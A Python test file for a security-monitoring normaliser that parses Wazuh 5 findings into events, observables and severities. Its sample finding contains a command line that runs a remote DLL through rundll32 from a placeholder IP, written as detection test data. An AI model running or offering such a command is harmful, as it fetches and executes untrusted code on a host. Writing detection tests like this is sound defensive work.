"""Findings of Wazuh 5."""

from __future__ import annotations

from datetime import UTC, datetime
from typing import Any

import pytest

from socdomain.sources.builtin import BUILTIN_MAPPINGS
from socdomain.sources.mapping import Normaliser
from socdomain.sources.normalised_event import AssetKind, AssetMention, CustomerClaim, NormalisedEvent
from socdomain.sources.severity import Severity

NORMALISER = Normaliser(BUILTIN_MAPPINGS["wazuh5"])

FINDING: dict[str, Any] = {
    "@timestamp": "2026-08-20T08:00:00Z",
    "event": {
        "action": "process-created",
        "id": "309",
        "created": "2026-08-20T07:59:59Z",
        "original": '<Event xmlns="http://schemas.microsoft.com/win/2004/08/events/event"><Data>198.51.100.7</Data></Event>',
    },
    "message": "A new process has been created",
    "process": {
        "executable": "C:\\Windows\\System32\\rundll32.exe",
        "command_line": "rundll32 http://203.0.113.9/x.dll,Start",
        "hash": {"md5": "0cc175b9c0f1b6a831c399e269772661"},
        "pe": {"imphash": "d41d8cd98f00b204e9800998ecf8427e"},
    },
    "related": {"hash": ["d41d8cd98f00b204e9800998ecf8427e"], "user": ["alice"]},
    "source": {"ip": "203.0.113.9"},
    "user": {"name": "alice", "domain": "CORP", "id": "S-1-5-21-1"},
    "wazuh": {
        "agent": {
            "id": "003",
            "name": "ws01",
            "groups": ["acme", "windows"],
            "host": {"hostname": "ws01.corp.example", "ip": ["10.0.0.3"]},
        },
        "cluster": {"name": "wazuh", "node": "node01"},
        "integration": {"name": "windows"},
        "rule": {
            "id": "sec-003",
            "title": "Rundll32 with a URL",
            "level": "critical",
            "mitre": {
                "tactic": {"id": ["TA0005"], "name": ["Defense Evasion"]},
                "technique": {"id": ["T1218"]},
                "subtechnique": {"id": ["T1218.011"]},
            },
        },
    },
}


def values(event: NormalisedEvent) -> set[str]:
    return {f"{observable.type.value} {observable.value}" for observable in event.observables}


def test_a_finding_is_read_as_an_analyst_would() -> None:
    event = NORMALISER.normalise(FINDING)
    assert (event.title, event.description) == ("Rundll32 with a URL", "A new process has been created")
    assert (event.severity, event.severity_known, event.level) == (Severity.CRITICAL, True, None)
    assert event.occurred_at == datetime(2026, 8, 20, 8, tzinfo=UTC)
    assert (event.rule_id, event.techniques) == ("sec-003", ("T1218", "T1218.011"))
    assert event.asset == AssetMention(AssetKind.HOST, "ws01", "003")
    assert event.user == "alice"
    assert values(event) == {
        "filename rundll32.exe",
        "url http://203.0.113.9/x.dll,Start",
        "ipv4 203.0.113.9",
        "ipv4 198.51.100.7",
        "md5 0cc175b9c0f1b6a831c399e269772661",
        "user_account alice",
    }
    assert event.context["Agent IP"] == "10.0.0.3"


def test_the_events_own_identifier_is_not_the_findings() -> None:
    """Two rules may each make a finding of one event; the second must not look like a changed first."""
    assert NORMALISER.normalise(FINDING).document_id is None
    hit = NORMALISER.normalise({"_index": "wazuh-findings-v5-security", "_id": "abc", "_source": FINDING})
    assert (hit.index_name, hit.document_id) == ("wazuh-findings-v5-security", "abc")


@pytest.mark.parametrize("word", ["informational", "low", "medium", "high", "critical"])
def test_words_become_severities_one_to_one(word: str) -> None:
    event = NORMALISER.normalise({"wazuh": {"rule": {"level": word}}})
    assert (event.severity.word, event.severity_known) == (word.capitalize(), True)


@pytest.mark.parametrize("level", ["pending", "", 12, None, ["?"]], ids=repr)
def test_a_word_that_is_not_known_is_medium_and_marked(level: Any) -> None:
    event = NORMALISER.normalise({"wazuh": {"rule": {"level": level}}})
    assert (event.severity, event.severity_known) == (Severity.MEDIUM, False)


def test_groups_of_the_agent_may_be_a_customers_code() -> None:
    marks = NORMALISER.normalise({"customer_code": "acme", **FINDING}).customer_marks
    assert [(mark.code, mark.claim) for mark in marks] == [
        ("acme", CustomerClaim.NAMES),
        ("node01", CustomerClaim.HINTS),
        ("acme", CustomerClaim.HINTS),
        ("windows", CustomerClaim.HINTS),
    ]


def test_findings_of_scanners_give_no_links_of_their_advice() -> None:
    vulnerability = {
        "vulnerability": {"id": "CVE-2026-1234", "description": "See https://advisory.example/1"},
        "event": {"original": "https://advisory.example/2 fixes 1.2.3.4"},
    }
    assert values(NORMALISER.normalise(vulnerability)) == {"cve CVE-2026-1234"}
    check = {"check": {"id": "28500", "rationale": "Section 10.2.1.4"}, "message": "10.2.1.4"}
    assert values(NORMALISER.normalise(check)) == set()


def test_the_identifier_of_a_container_is_no_hash() -> None:
    container = "ca978112ca1bbdcafac231b39a23dc4da786eff8147c4e72b9807785afee48bb"
    event = NORMALISER.normalise({"container": {"id": container}, "event": {"original": f"started {container}"}})
    assert values(event) == set()


@pytest.mark.parametrize("joint", [".", "_"])
def test_a_flattened_finding_is_read_as_the_nested_one(joint: str) -> None:
    flat = {
        joint.join(("wazuh", "rule", "title")): "Flat",
        joint.join(("wazuh", "rule", "level")): "low",
        joint.join(("wazuh", "agent", "id")): "003",
        joint.join(("source", "ip")): "203.0.113.9",
    }
    event = NORMALISER.normalise(flat)
    assert (event.title, event.severity, event.asset) == (
        "Flat",
        Severity.LOW,
        AssetMention(AssetKind.HOST, "", "003"),
    )
    assert values(event) == {"ipv4 203.0.113.9"}
